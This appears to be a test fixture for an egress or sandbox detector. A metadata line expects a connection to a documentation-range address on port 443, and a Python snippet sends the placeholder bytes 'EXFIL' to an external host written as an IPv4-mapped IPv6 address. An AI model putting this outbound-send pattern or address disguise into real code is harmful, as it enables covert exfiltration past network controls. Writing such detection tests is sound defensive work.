#: {"class": "egress", "loader": "script", "expect": [["connect", "203\\.0\\.113\\.7.*443"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket
s = socket.socket(socket.AF_INET6); s.connect(("::ffff:" + EXT, 443)); s.sendall(b"EXFIL"); s.close()
